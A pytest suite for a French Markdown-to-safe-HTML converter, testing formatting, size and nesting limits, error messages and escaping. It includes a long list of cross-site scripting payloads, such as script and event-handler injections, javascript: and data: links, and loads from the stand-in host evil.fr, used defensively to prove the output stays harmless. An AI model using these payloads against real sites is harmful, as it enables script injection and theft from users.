"""Markdown to harmless HTML: what people write, what attackers write, and the bounds."""

import re
import sys
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desescalade.markdown import (
    MAX_BRACKETS,
    MAX_CHARACTERS,
    MAX_DEPTH,
    MAX_ESCAPES,
    escape,
    problems,
    to_html,
    to_text,
)
from desescalade.typography import typeset

WITHOUT_ATTRIBUTES = "p br hr strong em sup sub code blockquote ul li h3 h4 h5 h6"
ALLOWED = {
    **{tag: set() for tag in WITHOUT_ATTRIBUTES.split(" ")},
    "ol": {"start"},
    "a": {"href", "rel"},
}
SCHEMES = ("http://", "https://", "mailto:", "tel:")


class Walker(HTMLParser):
    """Reads HTML as a browser does and lists what is not allowed."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.faults = []
        self.tags = set()
        self.depth = self.deepest = 0

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        if set(dict(attributes)) - ALLOWED.get(tag, set()) or tag not in ALLOWED:
            self.faults.append((tag, attributes))
        address = dict(attributes).get("href", "https://")
        if tag == "a" and ("href" not in dict(attributes) or not address.startswith(SCHEMES)):
            self.faults.append((tag, attributes))
        if tag in ("ul", "ol", "blockquote"):
            self.depth += 1
            self.deepest = max(self.depth, self.deepest)

    def handle_endtag(self, tag):
        if tag in ("ul", "ol", "blockquote"):
            self.depth -= 1

    def handle_comment(self, data):
        self.faults.append(("comment", data))

    def handle_decl(self, decl):
        self.faults.append(("declaration", decl))

    def handle_pi(self, data):
        self.faults.append(("instruction", data))

    def unknown_decl(self, data):
        self.faults.append(("unknown", data))


def walk(html):
    walker = Walker()
    walker.feed(html)
    walker.close()
    return walker


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Bonjour.", "<p>Bonjour.</p>"),
        ("Un **gras** et un *italique*", "<p>Un <strong>gras</strong> et un <em>italique</em></p>"),
        ("mot_a_mot _ici_", "<p>mot_a_mot <em>ici</em></p>"),
        ("Plié\nà la main", "<p>Plié\nà la main</p>"),
        ("Coupé  \nexprès", "<p>Coupé<br>\nexprès</p>"),
        ("Un\n\nDeux", "<p>Un</p>\n<p>Deux</p>"),
        ("- un\n- deux", "<ul>\n<li>un</li>\n<li>deux</li>\n</ul>"),
        ("* un\n+ deux", "<ul>\n<li>un</li>\n<li>deux</li>\n</ul>"),
        ("1. un\n2. deux", "<ol>\n<li>un</li>\n<li>deux</li>\n</ol>"),
        ("3. trois\n4. quatre", '<ol start="3">\n<li>trois</li>\n<li>quatre</li>\n</ol>'),
        ("1) un\n2) deux", "<ol>\n<li>un</li>\n<li>deux</li>\n</ol>"),
        ("> cité", "<blockquote>\n<p>cité</p>\n</blockquote>"),
        ("a\n\n---\n\nb", "<p>a</p>\n<hr>\n<p>b</p>"),
        ("a\n---\nb", "<p>a</p>\n<hr>\n<p>b</p>"),
        ("Un `code <b>`", "<p>Un <code>code &lt;b&gt;</code></p>"),
        ("    retrait", "<p>retrait</p>"),
        ("R&D &amp; <b> &#8238;", "<p>R&amp;D &amp;amp; &lt;b&gt; &amp;#8238;</p>"),
        ("\\*pas gras\\*", "<p>*pas gras*</p>"),
        ("2027. Une année", "<p>2027. Une année</p>"),
        ("- 2027. Une année", "<ul>\n<li>2027. Une année</li>\n</ul>"),
        ("#AuxUrnes", "<p>#AuxUrnes</p>"),
        ("10\u202f000\u00a0€\u202f!", "<p>10\u202f000\u00a0€\u202f!</p>"),
        ("![photo](https://x.fr/a.png)", "<p>![photo](https://x.fr/a.png)</p>"),
        ("<https://x.fr>", "<p>&lt;https://x.fr&gt;</p>"),
        ("", ""),
        (" \n\t\n", ""),
    ],
)
def test_to_html_converts_what_people_write(text, html):
    assert to_html(text) == html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        # Under a paragraph, without an empty line
        ("Nous :\n- un", "<p>Nous :</p>\n<ul>\n<li>un</li>\n</ul>"),
        ("Nous :\n1. un", "<p>Nous :</p>\n<ol>\n<li>un</li>\n</ol>"),
        ("plié avant\n12. mars", "<p>plié avant\n12. mars</p>"),
        # Nested by two or three spaces
        ("- a\n  - b\n- c", "<ul>\n<li>a<ul>\n<li>b</li>\n</ul>\n</li>\n<li>c</li>\n</ul>"),
        ("1. a\n   - b", "<ol>\n<li>a<ul>\n<li>b</li>\n</ul>\n</li>\n</ol>"),
        ("- a\n\t- b", "<ul>\n<li>a<ul>\n<li>b</li>\n</ul>\n</li>\n</ul>"),
        ("- a\n - b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        # An item folded by hand
        ("- a\n  suite\n- b", "<ul>\n<li>a\nsuite</li>\n<li>b</li>\n</ul>"),
        # One kind of list after the other
        ("- a\n1. b", "<ul>\n<li>a</li>\n</ul>\n<ol>\n<li>b</li>\n</ol>"),
        # A paragraph within an item, then the next item
        (
            "1. a\n\n   suite\n2. b",
            "<ol>\n<li>\n<p>a</p>\n<p>suite</p>\n</li>\n<li>\n<p>b</p>\n</li>\n</ol>",
        ),
        ("- a\n\nfin", "<ul>\n<li>a</li>\n</ul>\n<p>fin</p>"),
        ("- a\n# T", "<ul>\n<li>a</li>\n</ul>\n<h4>T</h4>"),
        (
            "> - a\n>   - b",
            "<blockquote>\n<ul>\n<li>a<ul>\n<li>b</li>\n</ul>\n</li>\n</ul>\n</blockquote>",
        ),
    ],
)
def test_to_html_accepts_lists_as_other_editors_write_them(text, html):
    assert to_html(text) == html


def test_to_html_accepts_text_pasted_from_a_word_processor():
    pasted = "Nos priorités\u00a0:\r\n•\tl’eau\u2028et l’air\r\n•\tl’école\r\n\uf0b7\tle reste…\r\n"
    assert to_html(pasted) == (
        "<p>Nos priorités\u00a0:</p>\n"
        "<ul>\n<li>l’eau\net l’air</li>\n<li>l’école</li>\n<li>le reste…</li>\n</ul>"
    )


def test_to_html_leaves_french_text_alone():
    text = "«\u00a0L’œuvre d’Évry\u00a0»\u202f: 57\u00a0% – 10\u202f000\u00a0€… n°\u00a05\u202f?"
    assert to_html(text) == f"<p>{text}</p>"


def test_to_html_understands_typeset_markdown():
    text = 'Le **"temps"** : *l\'heure* !\n\n- un\n- deux ; [là](https://x.fr/?a;b)'
    assert to_html(typeset(text)) == (
        "<p>Le <strong>«\u00a0temps\u00a0»</strong>\u00a0: <em>l’heure</em>\u202f!</p>\n"
        "<ul>\n<li>un</li>\n<li>deux\u202f; "
        '<a href="https://x.fr/?a;b" rel="noopener nofollow">là</a></li>\n</ul>'
    )


@pytest.mark.parametrize(
    ("level", "html"),
    [
        (4, "<h4>A</h4>\n<h5>B</h5>\n<h6>C</h6>\n<h6>D</h6>"),
        (3, "<h3>A</h3>\n<h4>B</h4>\n<h5>C</h5>\n<h6>D</h6>"),
        (6, "<h6>A</h6>\n<h6>B</h6>\n<h6>C</h6>\n<h6>D</h6>"),
        (1, "<h3>A</h3>\n<h4>B</h4>\n<h5>C</h5>\n<h6>D</h6>"),
        (9, "<h6>A</h6>\n<h6>B</h6>\n<h6>C</h6>\n<h6>D</h6>"),
    ],
)
def test_to_html_shifts_headings(level, html):
    assert to_html("# A\n## B\n### C\n#### D", heading_level=level) == html


@pytest.mark.parametrize(
    "address",
    [
        "https://exemple.fr",
        "http://exemple.fr:8000/a/b?c=d#e",
        "https://fr.wikipedia.org/wiki/Arles_(ville)",
        "https://exemple.fr/l'eau_et_l'air",
        "HTTPS://EXEMPLE.FR/",
        "mailto:mairie@exemple.fr",
        "tel:+33475123456",
    ],
)
def test_to_html_keeps_absolute_links(address):
    assert (
        to_html(f"[ici]({address})")
        == f'<p><a href="{address}" rel="noopener nofollow">ici</a></p>'
    )


def test_to_html_keeps_ampersands_of_addresses_and_drops_titles():
    assert to_html('[ici](https://x.fr/?a=1&copy;=2 "titre")') == (
        '<p><a href="https://x.fr/?a=1&amp;copy;=2" rel="noopener nofollow">ici</a></p>'
    )


@pytest.mark.parametrize(
    "address",
    [
        "//evil.fr",
        "/admin",
        "admin",
        "#ancre",
        "?a=b",
        "https:/evil.fr",
        "https:evil.fr",
        "https://",
        "https://banque.fr@evil.fr",
        "https://x.fr\\@evil.fr",
        "mailto:",
        "tel:abc",
        "ftp://x.fr",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "javascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "&#106;avascript:alert(1)",
        "\x01javascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,x",
        "data:text/html;base64,PHNjcmlwdD4=",
        "blob:https://x.fr/1",
        "",
    ],
)
def test_to_html_unlinks_the_words_of_other_addresses(address):
    assert to_html(f"[ici]({address})") == "<p>ici</p>"


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.fr/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '<img src="x" onerror="alert(1)"',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<style>@import '//evil.fr/x.css';</style>",
    "<style>*{background:url(//evil.fr)}</style>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.fr/x>",
    "<link rel=stylesheet href=//evil.fr/x.css>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<meta http-equiv=refresh content='0;url=//evil.fr'>",
    "<base href=//evil.fr/>",
    "<form action=//evil.fr><input name=x><button formaction=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)",
    "<p style=position:fixed class=x id=y onclick=alert(1)>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://x.fr' target=_blank onclick=alert(1)>x</a>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><!ENTITY x 'y'>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\u202ejavascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](javascript://https://x.fr/%0aalert(1))",
    '[x](https://x.fr "onmouseover=alert(1) x=")',
    "[x](https://x.fr '\"><script>alert(1)</script>')",
    '[x](https://x.fr"onmouseover="alert(1))',
    "[x](https://x.fr'onmouseover='alert(1))",
    "[x](https://x.fr><script>alert(1)</script>)",
    '[x](https://x.fr/"><img src=x onerror=alert(1)>)',
    "[<script>alert(1)</script>](https://x.fr)",
    "[`<img src=x onerror=alert(1)>`](https://x.fr)",
    "[[[x](javascript:a)](javascript:b)](javascript:c)",
    "[x]: javascript:alert(1)\n\n[x] [x][x]",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](x)',
    "![x](https://evil.fr/pixel.png)",
    "<javascript:alert(1)>",
    "<https://x.fr/onmouseover=alert(1)>",
    "<x@y.fr'onclick='alert(1)>",
    "`<script>`alert(1)`</script>`",
    "**<img src=x onerror=alert(1)>**",
    "- <script>\n  - </script>\n\n> <svg/onload=alert(1)>",
    "# <script>alert(1)</script> {: onclick=alert(1) }",
    "*x*{: style=x } [TOC]",
    "x\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02106\x03",
    "<a\x0chref=javascript:alert(1)>x",
    "\ud800<b>\udfff",
    "<b" * 200,
    "</p></li></ul></blockquote></body></html><script>alert(1)",
    '"><svg/onload=alert(1)>//',
    "'-alert(1)-'",
    "{{ 7*7 }} {% debug %}",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_to_html_gives_only_allowed_tags_and_attributes(text):
    assert walk(to_html(text)).faults == []


@pytest.mark.parametrize("text", HOSTILE)
def test_to_html_gives_only_allowed_tags_when_it_drops_formatting(text):
    html = to_html(text + "a" * MAX_CHARACTERS)
    assert walk(html).tags <= {"p", "br"}


tags = "<script>|</script>|<img src=x onerror=a>|<svg|<math>|<style>|<!--|-->|<![CDATA[|<?|>|<"
links = "[x](|](|(|)|[|]|![|javascript:|https://x.fr|//x|data:|\"|'|&|&#58;|&lt;|on="
marks = "`|``|*|**|_|__|\\|#|# |- |1. |> |\n|\n\n|  \n|    |\t|---|===|a|mot|é|:|{|}|•"
strange = "\x00|\x02|\x03|\u202e|\ud800|\u2028|\u00a0|\x85|klzzwxh:0000"
pieces = st.sampled_from("|".join((tags, links, marks, strange)).split("|"))
texts = st.lists(pieces, max_size=60).map("".join) | st.text(max_size=200)


@given(texts)
def test_to_html_stays_harmless_whatever_is_mixed(text):
    assert walk(to_html(text)).faults == []


@given(texts)
def test_to_html_stays_shallow_whatever_is_mixed(text):
    assert walk(to_html(text)).deepest <= MAX_DEPTH


@given(texts)
def test_problems_and_to_text_never_raise(text):
    assert isinstance(problems(text), list)
    assert "\x00" not in to_text(text)


TOO_DEEP = [
    "\n".join("  " * level + "- a" for level in range(MAX_DEPTH + 1)),
    "\n".join("  " * level + "- a" for level in range(70)),
    "1. " * 1333,
    "1. " * (MAX_DEPTH + 1) + "a",
    "- " * (MAX_DEPTH + 1) + "a",
    ">" * 150 + "a",
    "> " * (MAX_DEPTH + 1) + "a",
    "1. > " * 60 + "a",
    "- " * 5 + "> " * 5 + "a",
    "*a _b " * 400 + "c_ d* " * 400,
]
TOO_BIG = [
    "a" * (MAX_CHARACTERS + 1),
    "[" * (MAX_BRACKETS + 1),
    "`" * (MAX_ESCAPES + 1),
    "\\" * (MAX_ESCAPES + 1),
    "[" * 10_000,
    "<![" * 4000,
    "\n".join("  " * level + "- a" for level in range(200)),
    "a **b** " * 10_000,
]


@pytest.mark.parametrize("text", TOO_DEEP + TOO_BIG)
def test_to_html_drops_the_formatting_of_a_text_beyond_the_bounds(text):
    html = to_html(f"{text}\n\n**fin**")
    assert html.endswith("<p>**fin**</p>")
    assert walk(html).tags <= {"p", "br"}


@pytest.mark.parametrize(
    "text",
    [
        "a" * (MAX_CHARACTERS - 9),
        "[" * MAX_BRACKETS,
        "`" * MAX_ESCAPES,
        "- " * MAX_DEPTH + "a",
        "> " * MAX_DEPTH + "a",
        "* " * 80,
        "a\r\n" * 1000,
    ],
)
def test_to_html_keeps_the_formatting_of_a_text_at_the_bounds(text):
    assert to_html(f"{text}\n\n**fin**").endswith("<p><strong>fin</strong></p>")
    assert problems(text) == []


def called_with_frames_left(frames, function):
    used, frame = 0, sys._getframe()
    while frame:
        used, frame = used + 1, frame.f_back

    def deeper(count):
        return function() if count <= 0 else deeper(count - 1)

    return deeper(sys.getrecursionlimit() - used - frames)


def test_to_html_comes_back_when_the_stack_is_nearly_full():
    text = "- " * MAX_DEPTH + "**a**"
    formatted = to_html(text)
    found = {called_with_frames_left(frames, lambda: to_html(text)) for frames in range(15, 80)}
    assert found == {formatted, f"<p>{text}</p>"}


def test_to_html_without_formatting_keeps_paragraphs_and_line_breaks():
    filler = "a" * MAX_CHARACTERS
    assert to_html(f"- **un** <b>\n- deux & trois\n \n\nfin\n\n{filler}") == (
        f"<p>- **un** &lt;b&gt;<br>\n- deux &amp; trois</p>\n<p>fin</p>\n<p>{filler}</p>"
    )


def test_to_html_says_where_it_cuts_an_endless_text():
    assert to_html("a" * 100_001) == (
        f"<p>{'a' * 100_000}</p>\n<p>[Texte coupé ici\u00a0: il dépasse 100\u202f000 signes.]</p>"
    )


def test_problems_finds_nothing_in_an_ordinary_text():
    assert (
        problems("# Titre\n\nDu **texte**,\tdes [liens](https://x.fr)\r\n\r\n- et une liste") == []
    )


@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        (
            "a" * 6001,
            "Ce texte compte 6^001 signes, le maximum est de 6^000. "
            "Raccourcissez-le ou partagez-le en deux.",
        ),
        (
            "[" * 201,
            "Ce texte compte 201 crochets ouvrants «~[~», le maximum est de 200. "
            "Retirez ceux qui n’ouvrent pas un lien.",
        ),
        (
            "`" * 201,
            "Ce texte compte 201 accents graves «~`~» et barres inverses «~\\~», "
            "le maximum est de 200. Retirez ceux qui ne servent pas.",
        ),
        (
            "- " * 9 + "a",
            "Ce texte emboîte des listes, des citations ou des mises en valeur sur plus de "
            "8 niveaux. Remontez les plus profondes d’un niveau ou plus.",
        ),
        (
            "un\r\ndeux\x00\x00",
            "Ligne 2~: ce texte contient un caractère invisible, U+0000, le caractère nul. "
            "Effacez-le, ou tapez le passage de nouveau.",
        ),
        (
            "\u202eun",
            "Ligne 1~: ce texte contient un caractère invisible, U+202E, qui change le sens de "
            "l’écriture. Effacez-le, ou tapez le passage de nouveau.",
        ),
        (
            "un\x07",
            "Ligne 1~: ce texte contient un caractère invisible, U+0007, un caractère de "
            "commande. Effacez-le, ou tapez le passage de nouveau.",
        ),
    ],
)
def test_problems_says_what_is_wrong_and_how_to_mend_it(text, sentence):
    assert problems(text) == [sentence.replace("~", "\u00a0").replace("^", "\u202f")]


def test_problems_says_everything_at_once():
    assert len(problems("[" * 6001 + "\x00\u202e")) == 4


def test_to_html_drops_invisible_characters():
    assert to_html("m\u202eo\x00t\ud800") == "<p>mot</p>"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("Un **mot** et [un lien](https://x.fr)", "Un mot et un lien"),
        ("Plié\nà la main", "Plié à la main"),
        ("Coupé  \nexprès", "Coupé\nexprès"),
        ("# Titre\n\nUn\n\nDeux", "Titre\n\nUn\n\nDeux"),
        ("Nous :\n- a\n  - b\n- c\n\nfin", "Nous :\n\na\nb\nc\n\nfin"),
        ("a\n\n---\n\nb", "a\n\nb"),
        ("> cité", "cité"),
        ("`a <b>` & &amp; < c", "a <b> & &amp; < c"),
        ("10\u202f000\u00a0€", "10\u202f000\u00a0€"),
        ("", ""),
    ],
)
def test_to_text_keeps_the_words_without_the_marks(text, words):
    assert to_text(text) == words


def test_to_text_keeps_the_marks_of_a_text_beyond_the_bounds():
    text = "**a** " + "a" * MAX_CHARACTERS
    assert to_text(text) == text


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("Saint-Étienne-du-Grès", "Saint-Étienne-du-Grès"),
        ("*Saint*_x_ [a](javascript:1)", r"\*Saint\*\_x\_ \[a\](javascript:1)"),
        ("<b> # `", r"<b> # \`"),
        ("# titre", r"\# titre"),
        ("- a\n\n- b", r"\- a - b"),
        ("12. mars", r"12\. mars"),
        ("12) mars", r"12\) mars"),
        ("• a • b", r"\• a • b"),
        ("a\\", r"a\\"),
    ],
)
def test_escape_puts_backslashes_before_marks(value, escaped):
    assert escape(value) == escaped


def folded(value):
    """What is left of a value: no control character, and one space for each run of spaces."""
    line_breaks = re.sub("\r\n?|[\x0b\x0c\x85\u2028\u2029]", " ", value)
    kept = "".join(c for c in line_breaks if c in "\t\n" or unicodedata.category(c) not in "CcCs")
    kept = re.sub("[\u202a-\u202e\u2066-\u2069\ufffe\uffff]", "", kept)
    return re.sub("[ \t\n]+", " ", kept).strip(" ")


values = st.lists(pieces, max_size=20).map("".join) | st.text(max_size=50)


@pytest.mark.parametrize(
    "value", ["# a", "- a", "+ a", "> a", "1. a", "2) a", "• a", "a * b", "&lt;"]
)
def test_escape_shows_marks_at_the_start_of_a_line(value):
    assert to_text(escape(value)) == value
    assert walk(to_html(escape(value))).tags == {"p"}


@given(values)
def test_escape_shows_the_value_as_typed(value):
    assert to_text(f"a{escape(value)}z") == f"a{folded(value)}z"
    assert to_text(f"{escape(value)}z") == f"{folded(value)}z".lstrip()


@given(values)
def test_escape_never_becomes_markup(value):
    assert walk(to_html(escape(value))).tags <= {"p"}
    assert walk(to_html(f"Nous :\n\n{escape(value)} **et** plus")).tags == {"p", "strong"}
